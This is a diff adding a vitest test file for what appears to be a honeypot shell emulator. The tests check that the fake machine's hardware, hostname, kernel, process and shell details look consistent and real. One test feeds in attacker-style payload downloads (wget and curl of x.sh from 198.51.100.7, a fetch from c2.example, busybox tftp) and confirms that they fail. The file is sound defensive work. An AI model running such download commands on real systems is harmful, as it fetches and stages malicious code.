@@ -1,0 +1,191 @@
+import { mkdtempSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, expect, test } from 'vitest'
+import { loadIdentity } from '../identity.ts'
+import { md5crypt } from './commands/crypt.ts'
+import { kindOf } from './commands/inspect.ts'
+import { freshState, ShellPool } from './pool.ts'
+import { asked } from './shell.ts'
+import { Worlds } from './world.ts'
+
+const data = mkdtempSync(join(tmpdir(), 'skep-identity-'))
+const { persona } = loadIdentity(data)
+const { machine } = persona
+const pool = new ShellPool(machine)
+const worlds = new Worlds(persona, pool)
+const root = machine.users[0]!
+afterAll(() => pool.stop())
+
+/** What a line prints: for one command, or at a terminal. */
+async function say(line: string, source = '192.0.2.1', merged = false) {
+  const result = await pool.run(worlds.of(source), {
+    state: freshState('/root', 'root', '/bin/bash'),
+    line,
+    stdin: '',
+    user: root,
+    source,
+    since: Date.now(),
+    merged,
+  })
+  const { out, err } = asked(result, merged, line)
+  return { out: out.toString(), err: err.toString(), code: result.code }
+}
+const out = async (line: string): Promise<string> => (await say(line)).out.trim()
+
+test('all sources of the same fact agree', async () => {
+  const { cpu, disk, network, kernel } = machine
+  // Processors.
+  for (const line of [
+    'nproc',
+    'grep -c ^processor /proc/cpuinfo',
+    'getconf _NPROCESSORS_ONLN',
+    "lscpu | awk '/^CPU\\(s\\)/{print $2}'",
+    'ls -d /proc/stat >/dev/null; grep -c ^cpu[0-9] /proc/stat',
+  ])
+    expect(await out(line), line).toBe(String(cpu.cores))
+  expect(await out("grep -m1 'model name' /proc/cpuinfo | cut -d: -f2")).toBe(cpu.model)
+  expect(await out("lscpu | sed -n 's/^Model name: *//p'")).toBe(cpu.model)
+  expect(await out('dmesg | grep -c "' + cpu.model + '"')).toBe('1')
+  // Memory: within one line, so that it does not move between.
+  const [total = '', free = '', shown = ''] = (
+    await out(
+      "grep MemTotal /proc/meminfo | tr -dc 0-9; echo; grep MemFree /proc/meminfo | tr -dc 0-9; echo; free -k | awk '/^Mem/{print $2, $4}'",
+    )
+  ).split('\n')
+  expect(shown).toBe(`${total} ${free}`)
+  expect(Number(total)).toBe(machine.memory.total)
+  const sums = (await out("free -k | awk '/^Mem/{print $2, $3 + $4 + $6}'")).split(' ')
+  expect(sums[0]).toBe(sums[1])
+  // Names, kernel, disk, network.
+  for (const line of [
+    'hostname',
+    'cat /etc/hostname',
+    'uname -n',
+    'cat /proc/sys/kernel/hostname',
+    'echo $HOSTNAME',
+    "hostnamectl | awk '/Static/{print $3}'",
+  ])
+    expect(await out(line), line).toBe(machine.hostname)
+  for (const line of [
+    'uname -r',
+    'cat /proc/sys/kernel/osrelease',
+    "awk '{print $3}' /proc/version",
+    "ls /boot | sed -n 's/^vmlinuz-//p'",
+  ])
+    expect(await out(line), line).toBe(kernel.release)
+  expect(await out("df -k / | awk 'END{print $2}'")).toBe(String(disk.total))
+  expect(await out('awk \'$2 == "/" {print $1}\' /proc/mounts')).toBe(disk.device)
+  expect(await out('mount | awk \'$3 == "/" {print $1}\'')).toBe(disk.device)
+  for (const line of [
+    `cat /sys/class/net/${network.device}/address`,
+    "ip link | awk '/ether/{print $2}' | tail -1",
+    "ifconfig | awk '/ether/{print $2}'",
+  ])
+    expect(await out(line), line).toBe(network.mac)
+  for (const line of [
+    'hostname -I',
+    "ip a | sed -n 's/.*inet \\(10[^/]*\\).*/\\1/p'",
+    "ifconfig | awk '/inet 10/{print $2}'",
+  ])
+    expect(await out(line), line).toBe(network.ip)
+  // Processes: each that ps lists has its folder, with the same name.
+  const listed = (await out('ps -eo pid,comm --no-headers')).split('\n').map((line) => line.trim().split(/ +/))
+  for (const [pid = '', comm = ''] of listed.filter(([pid]) => Number(pid) < 1000).slice(0, 60))
+    expect(await out(`cat /proc/${pid}/comm`), pid).toBe(comm)
+  expect(await out('pidof nginx sshd | wc -w')).not.toBe('0')
+  // Users.
+  expect(await out('getent passwd root; head -1 /etc/passwd')).toBe(
+    `${'root:x:0:0:root:/root:/bin/bash\n'.repeat(2)}`.trim(),
+  )
+  expect(await out('stat -c "%U:%G" /usr/bin/crontab; ls -l /usr/bin/crontab | cut -d" " -f3,4')).toBe(
+    'root:crontab\nroot crontab',
+  )
+}, 60_000)
+
+test('a file has the size that a listing shows, and a program the header of the real one', async () => {
+  for (const path of ['/bin/ls', '/bin/echo', '/usr/sbin/sshd', '/etc/login.defs', '/usr/bin/ldd']) {
+    const [wc, ls, stat] = (
+      await out(`cat ${path} | wc -c; ls -lL ${path} | awk '{print $5}'; stat -L -c %s ${path}`)
+    ).split('\n')
+    expect([wc, stat], path).toEqual([ls, ls])
+  }
+  expect(await out('head -c 20 /bin/busybox | od -An -tx1')).toBe(
+    '7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00\n 03 00 3e 00',
+  )
+  expect(await out('md5sum < /bin/ls')).toBe(await out('cat /usr/bin/ls | md5sum'))
+  expect(await out('file -b /bin/ls')).toMatch(/^ELF 64-bit LSB pie executable, x86-64/)
+  expect(kindOf(Buffer.from('#!/bin/bash\n'))).toBe('Bourne-Again shell script, ASCII text executable')
+})
+
+test('one start and the next are the same machine; two machines share nothing of their own', async () => {
+  const again = loadIdentity(data).persona.machine
+  expect(again).toEqual(machine)
+  const other = loadIdentity(mkdtempSync(join(tmpdir(), 'skep-identity-'))).persona.machine
+  expect(other.machineId).not.toBe(machine.machineId)
+  expect(other.network.mac).not.toBe(machine.network.mac)
+  expect(other.disk.uuid).not.toBe(machine.disk.uuid)
+})
+
+test('the shell says what bash says, not what its engine says', async () => {
+  const { out: help } = await say('help; help nothing; type kill; enable | wc -l; compgen -c 2>/dev/null | head -0')
+  expect(help).toContain('GNU bash, version 5.1.4(1)-release (x86_64-pc-linux-gnu)')
+  expect(help).not.toMatch(/just/i)
+  const env = await out('export A=1; env; printenv HOME')
+  expect(env).toContain('A=1')
+  expect(env).not.toMatch(/^(IFS|OSTYPE|BASHOPTS|HOSTNAME|\?)=/m)
+  for (const strange of ['jq', 'yq', 'rg', 'xan', 'sqlite3', 'html-to-markdown', 'node', 'js-exec'])
+    expect((await say(`${strange} --help`)).err).toBe(`bash: line 1: ${strange}: command not found\n`)
+  expect(await out('ls --version | head -1; cat --help | head -1')).toBe(
+    'ls (GNU coreutils) 8.32\nUsage: cat [OPTION]... [FILE]...',
+  )
+})
+
+test('what cannot be written ends one command, with the reason, and not the line', async () => {
+  expect(await say('echo a > /nowhere/x; echo b > /proc/.x; echo c > /sys/.x; echo d > /etc; echo on')).toEqual({
+    out: 'on\n',
+    err: 'bash: line 1: /nowhere/x: No such file or directory\nbash: line 1: /proc/.x: No such file or directory\nbash: line 1: /sys/.x: Permission denied\nbash: line 1: /etc: Is a directory\n',
+    code: 0,
+  })
+  expect((await say("echo 'a", '192.0.2.1', false)).err).toBe(
+    "bash: -c: line 1: unexpected EOF while looking for matching `''\nbash: -c: line 2: syntax error: unexpected end of file\n",
+  )
+  expect((await say('echo x ;; y', '192.0.2.1', true)).err).toBe("-bash: syntax error near unexpected token `;;'\n")
+})
+
+test('sh speaks as dash, busybox as busybox', async () => {
+  expect(
+    (
+      await say(
+        'echo "nothing\ncd /none\n./x" | sed "s/.n/\\n/g" >/dev/null; printf "nothing\\ncd /none\\n./x\\n" | sh',
+      )
+    ).err,
+  ).toBe("sh: 1: nothing: not found\nsh: 2: cd: can't cd to /none\nsh: 3: ./x: not found\n")
+  expect(await say('sh none.sh')).toEqual({ out: '', err: 'sh: 0: cannot open none.sh: No such file\n', code: 2 })
+  const { err } = await say('busybox cat /none; busybox rm /none; busybox ls /none; busybox kill 31999; busybox XYZAB')
+  expect(err).toBe(
+    "cat: can't open '/none': No such file or directory\nrm: can't remove '/none': No such file or directory\nls: /none: No such file or directory\nkill: can't kill pid 31999: No such process\nXYZAB: applet not found\n",
+  )
+  expect((await say('busybox wget')).err).toMatch(/^BusyBox v1\.30\.1 .* multi-call binary\.\n\nUsage: wget /)
+})
+
+test('nobody waits for what runs in the background', async () => {
+  const before = Date.now()
+  expect(await out('sleep 600 & echo on; (sleep 500; echo later) & nothing_here & echo $?')).toBe('on\nlater\n0')
+  expect(Date.now() - before).toBeLessThan(20_000)
+})
+
+test('nothing is fetched: names are not resolved, connections are turned back, the machine itself answers', async () => {
+  const wget = await say('wget http://198.51.100.7/x.sh; ls x.sh')
+  expect(wget.err).toContain('Connecting to 198.51.100.7:80... failed: No route to host.\n')
+  expect(wget.err).toContain("ls: cannot access 'x.sh': No such file or directory")
+  expect((await say('curl -O http://198.51.100.7/x')).code).toBe(7)
+  expect((await say('wget -q http://c2.example/x')).code).toBe(4)
+  expect(await out('curl -s http://127.0.0.1/ | grep -c "<title>"')).toBe('1')
+  expect((await say('busybox tftp -g -r x 198.51.100.7')).err).toBe('tftp: sendto: No route to host\n')
+}, 30_000)
+
+test('a password is hashed as crypt(3) hashes it', () => {
+  // Made with openssl passwd -1 -salt abcdefgh vGhVVXXb
+  expect(md5crypt('vGhVVXXb', 'abcdefgh')).toBe('$1$abcdefgh$0vRM4Khgtqne3lBXV8URS/')
+})
